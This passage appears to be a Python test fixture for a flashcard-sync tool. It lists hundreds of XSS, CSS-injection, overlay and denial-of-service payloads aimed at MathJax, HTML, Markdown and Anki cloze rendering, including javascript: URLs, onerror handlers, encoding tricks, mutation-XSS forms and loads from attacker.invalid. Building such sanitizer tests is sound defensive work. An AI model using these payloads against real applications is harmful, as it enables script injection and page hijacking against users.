"""Attacks on a card, as notes of a vault: each would run a script, load something or cover the page.

`window.pwned` is set by what runs; `attacker.invalid` is asked for by what loads; what covers the page is
found where it stands.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "javascript:window.pwned=1"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(https://attacker.invalid/x)"
# Formulas; JS stands for an address that runs, CSS for a style that covers and loads, LONG for a line.
FORMULAS = r"""
\href{JS}{x}
\require{html}\href{JS}{\text{click}}
\href {JS} {x}
\href%
\text{a}\href{JS}{x}
\begin{array}{c}\href{JS}{x}\end{array}
\begin{pmatrix}a & \href{JS}{x}\end{pmatrix}
\frac{\href{JS}{x}}{y}
\sqrt[\href{JS}{x}]{y}
x^{\href{JS}{x}}_{\style{CSS}{y}}
\left(\href{JS}{x}\right)
\text{$\href{JS}{x}$}
\text{\(\href{JS}{x}\)}
\mbox{a $\style{CSS}{x}$ b}
\text{\)}\href{JS}{x}
\text{\]}\style{CSS}{x}
{ % \)}
\\\href{JS}{x}
\\\\\href{JS}{x}
\verb|a|\href{JS}{x}
\verb\x\\href{JS}{x}
\verb|\|\href{JS}{x}
\ce{\href{JS}{x}}
\ce{\hr ef{JS}{x}}
\ce{A $\href{JS}{x}$}
\pu{\style{CSS}{x}}
\let\h\href \h{JS}{x}
\let\h=\href \h{JS}{x}
\let\a\style \let\style\a \a{CSS}{x}
\let\style\href \let\href\style \style{CSS}{x}
\let\begin\style \begin{CSS}{x}
\let\text\style \text{CSS}{x}
\let\color\style \color{CSS}{x}
\def\h{\href}\h{JS}{x}
\def\h#1{\href{#1}{x}}\h{JS}
\def\h#1#2{#1{#2}{x}}\h\href{JS}
\def\href#1{x}\href{JS}{y}
\def\begin#1{\style{#1}{x}}\begin{CSS}
\def\x{\style}\x{CSS}{y}
\def\x{\color}\x{CSS}{y}
\def\x#1{\color{#1}{y}}\x{CSS}
\def\x#1;{\fcolorbox{#1;}{white}{y}}\x red;CSS;
\def\x#1{\begin{array}{c}#1\end{array}}\x{\href{JS}{y}}
\newcommand{\h}{\href}\h{JS}{x}
\newcommand\h\href \h{JS}{x}
\newcommand\h\fcolorbox{red}{white}{x} \h{CSS}{white}{y}
\newcommand{\h}[1]{\href{#1}{x}}\h{JS}
\newcommand{\h}[2][JS]{\href{#1}{#2}}\h{x}
\newcommand{\h}[1][CSS]{\style{#1}{x}}\h
\renewcommand{\frac}[2]{\href{#1}{#2}}\frac{JS}{x}
\renewcommand{\vec}[2]{#1{#2}{white}{x}}\vec\fcolorbox{CSS}
\renewcommand{\vec}[1]{#1{CSS}{white}{x}}\vec\fcolorbox{red}{white}{y}
\newcommand{\y}[3]{#1{#3}{white}{x}}\y\fcolorbox{red}{CSS}
\def\y#1#2#3{#1{#2#3}{white}{x}}\y\fcolorbox{red}{;CSS}
\def\q#1#2{#1}\def\y#1{\q#1{CSS}{white}{x}}\y{\fcolorbox{red}{white}{x}}
\def\q#1#2{#1}\q\fcolorbox{red}{CSS}{white}{x}
\def\q#1{#1}\q\bbox[CSS]{x}
\def\q{\bbox}\q[CSS]{x}
\newenvironment{e}[1]{\style{#1}{x}}{}\begin{e}{CSS}\end{e}
\newenvironment{e}{\href}{}\begin{e}{JS}{x}\end{e}
\renewenvironment{array}[1]{\style{#1}{x}}{}\begin{array}{CSS}\end{array}
\newenvironment{e}\fcolorbox{red}{white} \begin{e}{CSS}{white}{x}\end{e}
\DeclareMathOperator{\h}{\href{JS}{x}}\h
\DeclareMathOperator*{\h}{x\style{CSS}{y}}\h
\DeclarePairedDelimiter{\h}{\href{JS}{(}}{)}\h{x}
\DeclarePairedDelimiterX{\h}[1]{(}{)}{\href{JS}{#1}}\h{x}
\DeclarePairedDelimiterXPP{\h}[1]{\href{JS}{a}}{(}{)}{}{#1}\h{x}
\Newextarrow{\h}{5,5}{CSS}\h{x}
\style{CSS}{x}
\style{background:url(https://attacker.invalid/y)}{x}
\style{color:red}{x}
\class{mathjax_process}{x}
\class{fixed" onmouseover="window.pwned=1}{x}
\cssId{qa}{x}
\cssId{_mark}{\style{CSS}{x}}
\mmlToken{mi}[href=JS]{x}
\mmlToken{mi}[style="CSS"]{x}
\mmlToken{mtext}[mathbackground=url(https://attacker.invalid/m)]{x}
\unicode[x;CSS]{65}
\unicode[.55,0.05][x";CSS]{x41}
\unicode{x263A}
\bbox[CSS]{x}
\bbox[position:fixed,white]{\rule{200em}{200em}}
\bbox[border:2px solid red;CSS]{x}
\bbox[5px,url(https://attacker.invalid/b)]{x}
\color{red;CSS}{x}
\color[named]{red;CSS}{x}
\color[rgb;CSS]{1,0,0}{x}
\textcolor{red;CSS}{x}
\colorbox{red;CSS}{x}
\fcolorbox{red;CSS}{white}{x}
\fcolorbox{red}{white;CSS}{x}
\definecolor{q}{named}{red;CSS}\fcolorbox{q}{q}{x}
\definecolor{q}{rgb}{1,0,0;CSS}\fcolorbox{q}{q}{x}
\definecolor{q;CSS}{named}{red}\fcolorbox{q;CSS}{red}{x}
\cancel[mathbackground=url(https://attacker.invalid/c)]{x}
\cancel[color="red;CSS"]{x}
\enclose{circle}[mathcolor="red;CSS"]{x}
\enclose{circle;CSS}{x}
\cellcolor{red;CSS}x
\rowcolor[named]{red;CSS}x
\texttip{x}{<img src=x onerror=window.pwned=1>}
\mathtip{x}{\href{JS}{y}}
\toggle{x}{\href{JS}{y}}\endtoggle
\require{[https://attacker.invalid]/x}x
\require{../../../../x}x
\require{html;x}x
\require{autoload}\href{JS}{x}
\mathtoolsset{allow-mathtoolsset=true}x
\newtagform{a}[\href{JS}]{(}{)}x
\tag{\href{JS}{1}} x
\tag*{$\href{JS}{1}$} x
\label{a"><img src=x onerror=window.pwned=1>} x
\eqref{x" onmouseover="window.pwned=1} x
\ref{JS} x
\hspace{-1000em}x
\kern-1000em x
\raise 1000em {x}
\rule{1000em}{1000em}
\mskip -9000mu x
\\[-1000em] x
\def\k{\kern}\k-1000em x
\def\k#1{\kern#1em}\k{-1000} x
\smash{\rule{40em}{40em}}
\llap{\rule{40em}{40em}}
\raise 40em {\raise 40em {\rule{40em}{40em}}}
\begin{alignat}{99999999}a\end{alignat}
\begin{alignedat}{99999999}a\end{alignedat}
\begin{alignedat}[t]{99999999}a\end{alignedat}
\def\a{\a}\a
\def\a{\sqrt{\a}\sqrt{\a}}\a
\def\a{\sqrt{\b}\sqrt{\b}}\def\b{\sqrt{\a}\sqrt{\a}}\a
\def\a#1{\sqrt{#1}\sqrt{#1}}\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}}}}}}}}}}}}
\def\a{xx}\def\b{\frac\a\a}\def\c{\frac{\b}{\b}}\def\d{\frac{\c}{\c}}\def\e{\frac{\d}{\d}}\def\f{\frac{\e}{\e}}\def\g{\frac{\f}{\f}}\def\h{\frac{\g}{\g}}\def\i{\frac{\h}{\h}}\def\j{\frac{\i}{\i}}\def\k{\frac{\j}{\j}}\def\l{\frac{\k}{\k}}\def\m{\frac{\l}{\l}}\def\n{\frac{\m}{\m}}\def\o{\frac{\n}{\n}}\def\p{\frac{\o}{\o}}\p
\require{physics}\xmat{x}{99999}{99999}
\require{physics}\imat{99999}
<img src=x onerror=window.pwned=1>
\text{<img src=x onerror=window.pwned=1>}
\text{&lt;img src=x onerror=window.pwned=1&gt;}
\operatorname{<script>window.pwned=1</script>}
""".strip().splitlines()
# Raw HTML; a note has it in its answer.
RAW = r"""
<div>\(\hr<wbr>ef{JS}{x}\)</div>
<div>\(\hr<wbr/>ef{JS}{x}\)</div>
<div>\(\href<br>{JS}{x}\)</div>
<div>\(\hr<!-- a -->ef{JS}{x}\)</div>
<div>\(\hr&#101;f{JS}{x}\)</div>
<div>\(\&#x68;ref{JS}{x}\)</div>
<div>&#92;(&#92;href{JS}{x}&#92;)</div>
<div>&bsol;(&bsol;href{JS}{x}&bsol;)</div>
<div>\<wbr>(\href{JS}{x}\<wbr>)</div>
<div>\(\sty<wbr>le{CSS}{x}\)</div>
<div>\(\hr<b></b>ef{JS}{x}\)</div>
<div>\[\hr<x>ef{JS}{x}\]</div>
<div>\(\hr<script>1</script>ef{JS}{x}\)</div>
<div>\(a <b>\href{JS}{x}</b>\)</div>
<div>\( { \) \href{JS}{x} } \)</div>
<code class="mathjax_process">\(\href{JS}{x}\)</code>
<pre class="a mathjax_process b">\(\href{JS}{x}\)</pre>
<span class="mathjax_ignore"><b class="mathjax_process">\(\href{JS}{x}\)</b></span>
<span class="mathjax_ignore">\(</span>\href{JS}{x}\)
<table><tr>\(\hr<td>ef{JS}{x}\)</td></tr></table>
<table>\(\hr<tr>ef{JS}{x}\)</tr></table>
<ruby>\(\hr<rt>ef</rt>{JS}{x}\)</ruby>
<b title="\(">\href{JS}{x}\)</b>
<b title="\(&lt;">a</b> \) onmouseover=window.pwned=1 x="
<div style="CSS">x</div>
<div style="float:left;height:900px;width:900px;background:red">x</div>
<div>x <b style="float:right;height:60em">y</b></div>
<div style="position:fixed;inset:0;background:red">x</div>
<div style="pos/**/ition:fixed;top:0">x</div>
<div style="p\6fsition:fixed;top:0">x</div>
<div style="background:url(https://attacker.invalid/a)">x</div>
<div style="background:image-set('https://attacker.invalid/b' 1x)">x</div>
<div style="background-image:url(https://attacker.invalid/c)">x</div>
<div style="width:9000px;height:9000px;margin:-4000px">x</div>
<div style="transform:scale(99)">x</div>
<div style="content:url(https://attacker.invalid/d)">x</div>
<div style="list-style-image:url(https://attacker.invalid/e);list-style-type:'x'">x</div>
<div style="color:var(--x,url(https://attacker.invalid/f))">x</div>
<a href="https://a.invalid" style="display:block;position:absolute;inset:0">x</a>
<a href="https://a.invalid" style="display:block;height:100vh;margin-top:-50vh">x</a>
<a href="JS">x</a>
<a href="java&#9;script:window.pwned=1">x</a>
<a href="javascript&#58;window.pwned=1">x</a><a href="javascript&#058;window.pwned=1">x</a>
<a href=" &#1; JS">x</a>
<a href="data:text/html,<script>window.pwned=1</script>">x</a>
<a href="obsidian://new?vault=v&name=a&content=b">x</a>
<a href="obs&#10;idian://advanced-uri?vault=v&commandid=x">x</a>
<a href="things:///add?title=x">x</a>
<a href="anki://x-callback-url/addnote?type=a">x</a>
<svg onload="window.pwned=1"><a xlink:href="JS"><text>x</text></a></svg>
<math><maction actiontype="statusline#JS" xlink:href="JS">x</maction></math>
<iframe src="JS"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src="http://127.0.0.1:1/x"></iframe>
<object data="JS"></object><embed src="JS">
<form action="JS"><button>x</button><input type=image src=x></form>
<input type="text" autofocus onfocus="window.pwned=1">
<img src=x onerror="window.pwned=1"><video poster="JS"><source onerror="window.pwned=1"></video>
<details open ontoggle="window.pwned=1"><summary>x</summary></details>
<template><img src=x onerror="window.pwned=1"></template>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<style>*{position:fixed}</style><link rel=stylesheet href="https://attacker.invalid/s.css">
<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">
<p title="<img src=x onerror=window.pwned=1>">x</p>
<b id="qa">x</b><div id="_mark" class="mjx-x">x</div>
<div>$\hr</div>ef{JS}{x}$
x \\(\href{JS}{x}\\)
x \\\(\href{JS}{x}\\\)
x `\(` \href{JS}{x} `\)`
""".strip().splitlines()
CLOZES = r"""
{{c1::x}} \(\hr{{c1::ef}}{JS}{x}\)
{{c1::x}} $\hr{{c2::ef}}{JS}{x}$
{{c1::x}} $\hr{{c1::a::ef}}{JS}{x}$
{{c1::x}} ${{c1::y::\href{JS}{x} }}$
{{c1::x}} $\sty{{c1::le}}{CSS}{x}$
{{c1::x}} $\{{c1::href}}{JS}{x}$
{{c1::x}} $\hr{{c1::e}}{{c2::f}}{JS}{x}$
{{c1::x}} $\hr{{c1::{{c2::ef}}}}{JS}{x}$
{{c1::x}} \{{c1::(}}\href{JS}{x}\{{c1::)}}
{{c1::x}} {{c1::\(}}\href{JS}{x}\)
{{c1::x}} \({{c1::\)}}\href{JS}{x}\)
{{c1::x}} $\text{ {{c1::\)}} }\href{JS}{x}$
{{c1::x::\(\href{JS}{x}\)}}
{{c1::x::$\style{CSS}{x}$}}
{{c1::\(a::b\) \href{JS}{x}\)}}
<div>{{c1::x}} \(\hr{{c1::ef}}{JS}{x}\)</div>
<div>{{c1::x}} \(\hr<b>ef</b>{JS}{x}\)</div>
<div>{{c1::x}} \(\hr<b title="\)">ef{JS}{x}\)</b></div>
<div>{{c1::x}} <b title="\(&lt;">a</b> \)" onmouseover=window.pwned=1 x="</div>
<div>{{c1::x}} <code>\(</code> \hr<b>ef</b>{JS}{x} \)</div>
<div>{{c1::\(a::b\) \hr<wbr>ef{JS}{x}\)}}</div>
<div>{{c1::image-occlusion:rect:left=1" onmouseover="window.pwned=1:top=2}}</div>
<div>{{c1::image-occlusion:rect:left=1"><img src=x onerror=window.pwned=1>:top=2}}</div>
{{c1::image-occlusion:rect:left=1" onmouseover="window.pwned=1:top=2}}
{{c1::x}} &#92;(\hr{{c1::ef}}{JS}{x}\)
{{c1::x}} \(\hr{{c1::ef}}{JS}{x}&#92;) <b>a</b> \)
{{c1::x}} $\def\a{\hr{{c1::ef}}}\a{JS}{x}$
{{c1::x}} $\color{red{{c1::;CSS}}}{x}$
{{c1::<code>}}\(\href{JS}{x}\){{c1::</code>}}
{{c1::a <code>b}} \(\href{JS}{x}\) {{c2::c</code>}}
{{c1::<b></b><pre>}}\(\href{JS}{x}\)</pre>
<b>{{c1::</b><code>}} \(\href{JS}{x}\) </code>
{{c1::x <span class="mathjax_ignore">}}\(\href{JS}{x}\){{c1::</span>}}
<div><span class="mathjax_ignore">{{c1::<div>}}</div>\(\href{JS}{x}\)</span></div>
{{c1::<code>x::\(\href{JS}{x}\)</code>}}
{{c1::{{c2::<code>}} \(\href{JS}{x}\)</code>}}
{{c1::<b title="a::b">x</b>}} <i title=" onclick=window.pwned=1 x=">y</i>
{{c1::<b title="a&#58;:b">x</b>}} <i title=" onclick=window.pwned=1 x=">y</i>
<b title="{{c1::a">x</b> <i title="}} onclick=window.pwned=1 x=">y</i>
{{c1::<b title="}}">x</b> <i title=" onclick=window.pwned=1 x=">y</i>
""".strip().splitlines()
# More of them, in a front, an answer and a deletion.
MORE = r"""
$\text{\unicode{x5C}(\href{JS}{x}\unicode{x5C})}$
$\text{a&#92;)\href{JS}{x}}$
\\(\\href{JS}{x}\\)
$\text{$\text{$\href{JS}{x}$}$}$
$\mbox{\(\mbox{\(\href{JS}{x}\)}\)}$
$\textcolor{red}{\text{\)\(\href{JS}{x}}}$
$\ce{->[\href{JS}{x}][b]}$
$\ce{A \text{\href{JS}{x}}}$
$\ce{$\unicode{65}$ \ce{\href{JS}{x}}}$
$\pu{1 \href{JS}{m}}$
$\xrightarrow[\href{JS}{a}]{b}$
$\genfrac{\href{JS}{(}}{)}{0pt}{}{n}{k}$
$\genfrac{(}{)}{1000em}{}{n}{k}$
$\cfrac[\href{JS}{l}]{a}{b}$
$\begin{CD}A@>\href{JS}{f}>>B\end{CD}$
$\begin{array}{>{\href{JS}{x}}c}a\end{array}$
$\begin{array}{c!{\style{CSS}{x}}c}a&b\end{array}$
$\begin{array}{@{\href{JS}{y}}c}a\end{array}$
$\begin{array}{p{1000em}}a\end{array}$
$\begin{array}{w{c}{900em}}a\end{array}$
$\begin{subarray}{\href{JS}{y}}a\end{subarray}$
$\begin{alignat}{\href{JS}{y}}a\end{alignat}$
$\begin{multlined}[t][1000em]a\end{multlined}$
$\begin{cases}\style{CSS}{a}&b\end{cases}$
$\let\a=\begingroup\def\b{\href}\b{JS}{x}$
$\let\eps\unicode\eps{65}\href{JS}{x}$
$\def\a#1{\let\b#1\b}\a\href{JS}{x}$
$\def\a{\let\b}\a\href\b{JS}{x}$
$\def\x#1#2{\let#1#2}\x\y\href\y{JS}{x}$
$\newcommand{\a}[1]{\let\b=#1 \b{JS}{x}}\a\href$
$\futurelet\a\b\href{JS}{x}$
$\expandafter\href{JS}{x}$
$\csname href\endcsname{JS}{x}$
$\begingroup\let\frac\href\frac{JS}{x}\endgroup$
$\global\let\frac\href\frac{JS}{x}$
$\char`\\href{JS}{x}$
$\catcode`|=0 |href{JS}{x}$
$\def\a{\string\href}\a{JS}{x}$
$\texttt{\href{JS}{x}}\textnormal{\style{CSS}{x}}$
$\bra{\href{JS}{x}}$
$\braket{a|\href{JS}{x}}$
$\Set{a|\style{CSS}{b}}$
$\textup{\(\style{CSS}{b}\)}$
$\tag{\(\href{JS}{x}\)}a$
$\tag*{a $\style{CSS}{x}$} b$
$\label{x}\ref{x}\cssId{x}{\href{JS}{a}}$
$\notag\nonumber\require{noerrors}\href{JS}{x}$
$\require{textmacros}\text{\href{JS}{x}}$
$\require{colorv2}\color{red;CSS}{x}$
$\require{color}\colorbox{red;CSS}{x}$
$\require{tagformat}x$
$\require{setoptions}\setOptions{maxMacros=9999999}x$
$\require{gensymb}\require{upgreek}\upalpha\href{JS}{x}$
$\require{centernot}\centernot{\href{JS}{x}}$
$\require{empheq}\begin{empheq}[left={\href{JS}{x}}]{align}a\end{empheq}$
$\require{cases}\begin{numcases}{\href{JS}{x}}a&b\end{numcases}$
$\require{bussproofs}\begin{prooftree}\AxiomC{\href{JS}{x}}\end{prooftree}$
$\require{physics}\qty(\href{JS}{x})$
$\require{physics}\qqtext{\href{JS}{x}}$
$\require{physics}\dv[\href{JS}{2}]{x}{y}$
$\require{physics}\mqty(\imat{500})$
$\require{physics}\xmat*{\href{JS}{x}}{2}{2}$
$\qty{\style{CSS}{x}}$
$\rule{59em}{59em}$
$\rule[-59em]{59em}{100px}$
$\hspace{59em}\hspace{59em}\hspace{59em}x$
$\kern-59em\kern-59em\rule{59em}{1em}$
$\raise59em{x}\lower59em{\raise-59em{x}}$
$\Huge\Huge\Huge\rule{59em}{59em}$
$\mathmakebox[900em]{x}$
$\makebox[100em]{x}$
$\raisebox{900em}[0pt][0pt]{x}$
$\begin{array}{c}a\\[900em]b\end{array}$
$\arraycolsep=1000em x$
$\skip1=1000em x$
$\mathllap{\rule{50em}{20em}}\mathrlap{\rule{50em}{20em}}$
$\left(\rule{0em}{50em}\right)$
$\sqrt{\rule{0pt}{59em}}\vphantom{\rule{1em}{59em}}$
$\bbox[red,1000em]{x}$
$\bbox[-500px,red]{x}$
$\bbox[red;position:absolute]{x}$
$\color{red}{\color{expression(1)}{x}}$
$\color{var(--x)}{x}$
$\fcolorbox[rgb]{1,0,0;}{1,1,1}{x}$
$\definecolor{red}{HTML}{FF0000;CSS}\color{red}x$
$\mathbin{\style{CSS}{x}}\mathop{\href{JS}{y}}$
$\sideset{_\href{JS}{1}^2}{_3}\sum$
$\underset{\style{CSS}{a}}{b}$
$\operatorname{\href{JS}{x}}$
$\operatorname*{\text{\style{CSS}{x}}}$
$\verb!\href{JS}{x}!\verb!\)\href{JS}{x}\(!$
$a$ $$\href{JS}{x}$$ $b$
$ \(\href{JS}{x}\) $
\$\\href{JS}{x}\$
<b>\(</b>\href{JS}{x}<i>\)</i>
<p>\(\hre</p><p>f{JS}{x}\)</p>
<span>\(\hre</span><span>f{JS}{x}\)</span>
<span>\(a</span><br>\href{JS}{x}\)
<span style="display:none">\(</span>\href{JS}{x}\)
<sup>\(</sup>\style{CSS}{x}\)
\(<span title="\)">\href{JS}{x}</span>\)
<!-- \( -->\(\href{JS}{x}\)<!-- \) -->
\(\hr&ZeroWidthSpace;ef{JS}{x}\)
\(\hr&shy;ef{JS}{x}\)
\(\&NewLine;href{JS}{x}\)
&lpar;\href{JS}{x}&rpar;
\&lpar;\href{JS}{x}\&rpar;
&Backslash;(&Backslash;href{JS}{x}&Backslash;)
&setminus;(&setminus;href{JS}{x}&setminus;)
&#x5c;(&#x5c;href{JS}{x}&#x5c;)
&#0000092;(&#92href{JS}{x}&#92)
&amp;#92;(\href{JS}{x}&amp;#92;)
＼(\href{JS}{x}＼)
<div class="MathJax mjx-container" data-x>\(\href{JS}{x}\)</div>
<mjx-container><a href="JS">x</a></mjx-container>
<textarea>\(</textarea>\href{JS}{x}\)
<pre>\(</pre>\href{JS}{x}\)
<code>\(</code>\href{JS}{x}<code>\)</code>
<annotation>\(</annotation>\href{JS}{x}\)
<kbd>\(\style{CSS}{x}\)</kbd>
<div style="position:sticky;top:0;z-index:999">x</div>
<div style="margin:-500px">x</div>
<div style="margin-top:calc(-100vh)">x</div>
<div style="width:100vw;height:100vh">x</div>
<div style="text-indent:-1000px">x</div>
<div style="line-height:1000">x</div>
x <a style="font-size:130px;line-height:0;opacity:0.01" href="https://a.invalid">████████</a>
<div style="font-size:130px;line-height:1px">x <a href="https://a.invalid">████████</a></div>
<div style="height:0"><div style="height:900px;background:red">x</div></div>
<div style="max-height:0;Overflow : hidden;overflow:visible"><div style="height:900px">x</div></div>
<div style="display:flex;height:0"><div style="height:900px;width:900px">x</div></div>
<table style="display:block;height:1px"><tr><td style="font-size:130px">x</td></tr></table>
<div style="font-size:1000px">x</div>
<div style="font:99999px x">x</div>
<div style="border:1000px solid red">x</div>
<div style="padding:1000px">x</div>
<span style="padding:200px;background:red">x</span>
<b style="border:200px solid red">x</b><code style="padding:0 0 900px;background:red">x</code>
<div style="display:inline;padding:200px;background:red">x</div>
<p style="display:block;padding:200px;background:red;display:inline">x</p>
<i style="float:left;padding:200px;background:red;float:none">x</i>
<u style="text-decoration:line-through 900px red">x</u>
<table><tr><td style="float:left;height:1px">LONG<br>LONG<br>LONG<br>LONG</td></tr></table>
<table height=1 style="display:block"><tr><td>LONG<br>LONG<br>LONG<br>LONG</td></tr></table>
<table><tbody height=1 style="float:left"><tr><td>LONG<br>LONG<br>LONG<br>LONG</td></tr></table>
<table><tr height=1 style="display:flex"><td>LONG<br>LONG<br>LONG<br>LONG</td></tr></table>
<div style="border-image:url(https://attacker.invalid/b) 1">x</div>
<div style="background:red url(https&#58;//attacker.invalid/c)">x</div>
<div style="background:&#117;rl(https://attacker.invalid/c)">x</div>
<div style="background:u\rl(https://attacker.invalid/c)">x</div>
<div style="list-style:url(https://attacker.invalid/c)">x</div>
<div style="font-family:'x;} *{position:fixed'">x</div>
<div style="color:red;/*;position:fixed;*/">x</div>
<div style="color:red}</style><script>window.pwned=1</script>">x</div>
<a style="display:block;font-size:900px;line-height:900px" href="https://a.invalid">x</a>
<img width=99999 height=99999 src="data:image/png;base64,AA">
<table width="99999" height="99999"><td background="https://attacker.invalid/t">x</td></table>
<font size="+999" color="red;CSS" face="x';CSS">x</font>
<font color="url(https://attacker.invalid)">x</font>
<ol start="99999999999" type="JS"><li value="-1">x</ol>
<input type=checkbox onclick="window.pwned=1" checked>
<input type="image" src="https://attacker.invalid/i">
<details open ontoggle=window.pwned=1><summary onclick="window.pwned=1">x</summary></details>
<marquee onstart=window.pwned=1>x</marquee><blink>x</blink>
<svg><style>@import 'https://attacker.invalid/s'</style></svg>
<svg><p><style><g title="</style><img src=x onerror=window.pwned=1>">
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>
<math><annotation-xml encoding="text/html"><img src=x onerror=window.pwned=1></annotation-xml></math>
<select><style><img src=x onerror=window.pwned=1></style></select>
<xmp><img src=x onerror=window.pwned=1></xmp><plaintext>x
<noembed><img title="</noembed><img src=x onerror=window.pwned=1>"></noembed>
<img src="x` `<script>window.pwned=1</script>">
<img/src='x'/onerror='window.pwned=1'>
<img src="x" alt="`onerror=window.pwned=1`">
<a href="JS//%0Aalert(1)">x</a><a href="JAVASCRIPT&colon;window.pwned=1">x</a>
<a href="javascript&#x3A;window.pwned=1">x</a><a href="&#106avascript:window.pwned=1">x</a>
<a href="java&Tab;script:window.pwned=1">x</a><a href="java&#x0A;script:window.pwned=1">x</a>
<a href="view-source:JS">x</a><a href="blob:JS">x</a><a href="filesystem:x">x</a><a href="file:///etc/passwd">x</a>
<a href="https://a.invalid" target="_top" ping="https://attacker.invalid/p">x</a>
<a href="//attacker.invalid/x">x</a>
[x](JS) [x](<JS>) [x](&#106;avascript:window.pwned=1) [x](java\script:window.pwned=1)
[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](obsidian://new?x=1)
![[x.png|100" onerror="window.pwned=1]]
[[x" onclick="window.pwned=1|y]] [[x#" onclick="window.pwned=1]] [[x|<img src=x onerror=window.pwned=1>]]
<https://a.invalid/"onclick="window.pwned=1>
https://a.invalid/"onclick="window.pwned=1 www.a.invalid/<script>
`<img src=x onerror=window.pwned=1>` ``\(\href{JS}{x}\)``
~~~"><img src=x onerror=window.pwned=1>
```js" onclick="window.pwned=1
[sound:JS] [sound:" onclick="window.pwned=1.mp3] [anki:tts lang=en]x[/anki:tts]
[latex]\href{JS}{x}[/latex] [$]\href{JS}{x}[/$] [$$]x[/$$]
{{Front}} {{#Front}}\(\href{JS}{x}\){{/Front}} {{cloze:Front}} {{type:Front}}
{{c1::\(\href{JS}{x}\)}} {{c1::x::<img src=x onerror=window.pwned=1>}}
==\(\href{JS}{x}\)== ==<script>window.pwned=1</script>==
%%\(%%\href{JS}{x}%%\)%%
#tag\(\href{JS}{x}\) #"onclick=window.pwned=1
^[\(\href{JS}{x}\)] [^a]
<div>\(\text{<!-- -->\)}\href{JS}{x}\)</div>
<div>\[\begin{array}{c}\)\href{JS}{x}\end{array}\]</div>
<div>\begin{align}\href{JS}{x}\end{align}</div>
<div>$$\href{JS}{x}$$ \\[\href{JS}{x}\\]</div>
<div>\ref{x}\eqref{\href{JS}{x}}</div>
<div>&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;lt;img src=x onerror=window.pwned=1&amp;gt;</div>
<div>\(a&lt;img src=x onerror=window.pwned=1&gt;\)</div>
<div>\(\text{&lt;a href="JS"&gt;x&lt;/a&gt;}\)</div>
""".strip().splitlines()
# One card defines, the next one uses: MathJax keeps definitions.
PAIRS = [
    (r"\def\zz{\href}", r"\zz{JS}{x}"),
    (r"\def\zz{\fcolorbox}", r"\zz{CSS}{white}{x}"),
    (r"\def\zz#1#2{#1{#2}{white}{x}}", r"\zz\fcolorbox{red}{CSS}"),
    (r"\renewcommand{\text}[1]{#1}", r"\text{\href{JS}{x}}"),
    (r"\renewcommand{\verb}[1]{#1}", r"\verb|\href{JS}{x}|"),
    (r"\def\%{\href}", r"\%{JS}{x}"),
    (r"\renewcommand{\alpha}[2]{#1{#2}}", r"\alpha\bbox[red]{CSS}"),
    (r"\definecolor{zz}{named}{red;CSS}", r"\fcolorbox{zz}{zz}{x}"),
    (r"\let\zz=\style", r"\zz{CSS}{x}"),
    (r"\renewcommand{\beta}[3]{#1x}", r"\beta\definecolor{q}{}{named}{CSS}\fcolorbox{x}{white}{y}"),
    (r"\renewcommand{\beta}[1]{#1x{}{CSS}}", r"\beta\definecolor{q}{}{red} \fcolorbox{x}{x}{y}"),
    (r"\renewcommand{\beta}[1]{#1x{}{CSS}}\beta\definecolor{q}{}{red}", r"\fcolorbox{x}{x}{y}"),
    (r"\newenvironment{zz}[1]{\style{#1}{x}}{}", r"\begin{zz}{CSS}\end{zz}"),
    (r"\let\zz\frac", r"\zz{a}{b}"),
    (r"\def\yy#1{\color{#1}x}", r"\yy{red;CSS}"),
    (r"\newcommand{\xx}[1]{\let\ww#1}", r"\xx\href\ww{JS}{x}"),
    (r"\let\vv\let", r"\vv\uu\href\uu{JS}{x}"),
    (r"\let\vv\def", r"\vv\uu{\href}\uu{JS}{x}"),
    (r"\let\vv\newcommand", r"\vv{\uu}{\href}\uu{JS}{x}"),
    (r"\let\vv\begin", r"\vv{e}{JS}{x}"),
    (r"\let\bgroup\style", r"\bgroup{CSS}{x}"),
    (r"\def\text{\href}", r"\text{JS}{x}"),
    (r"\renewcommand\frac\href", r"\frac{JS}{x}"),
    (r"\newcommand{\mc}[1]{#1}", r"\mc\href{JS}{x}"),
    (r"\DeclareMathOperator{\op}{\style}", r"\op{CSS}{x}"),
    (r"\let\{\style", r"\{{CSS}{x}"),
    (r"\let\\\href", r"\\{JS}{x}"),
    (r"\let\ \href", r"\ {JS}{x}"),
    (r"\let\,\style", r"a\,{CSS}{x}"),
    (r"\let\tt\texttt", r"\tt{\href{JS}{x}}"),
    (r"\let\ct\color", r"\ct{red;CSS}{x}"),
    (r"\let\bx\bbox", r"\bx[red;CSS]{x}"),
    (r"\let\kk\kern", r"\kk-1000em x"),
    (r"\let\oldvec\vec", r"\oldvec{\href{JS}{x}}"),
    (r"\def\&{\href}", r"\&{JS}{x}"),
    (r"\def~{\href}", r"~{JS}{x}"),
    (r"\let~\href", r"~{JS}{x}"),
]
# Three attacks, and every place of a note where text stands.
CORE = [r"\(\href{JS}{x}\)", r"$\style{CSS}{x}$", "<img src=x onerror=window.pwned=1>"]
PLACES = [
    "START\nBasic\n{attack} front\nBack: a\nEND",
    "START\nBasic (type in the answer)\nq\nBack: {attack}\nEND",
    "START\nBasic (and reversed card)\nq\nBack: r {attack}\nEND",
    "START\nBasic\nq\nBack:\n| a | b |\n| - | - |\n| {attack} | c |\nEND",
    "START\nBasic\nq\nBack:\n> [!note] {attack}\n> {attack}\nEND",
    "START\nBasic\nq\nBack: x[^1] ^[{attack}]\n\n[^1]: {attack}\nEND",
    "START\nBasic\nq\nBack:\n- [ ] {attack}\n  1. {attack}\nEND",
    "START\nBasic\nq\nBack: **{attack}** ==*{attack}*== ~~{attack}~~\nEND",
    "START\nBasic\nq\nBack: [{attack}](https://a.invalid) [[no note|{attack}]] [[{attack}]]\nEND",
    "START\nBasic\nq\nBack: ![[Embedded{number}]]\nEND",
    "START\nBasic\nq\nBack: ![[Embedded{number}#h]]\nEND",
    "# {attack}\n\nSTART\nBasic\nq\nBack: in the context\nEND",
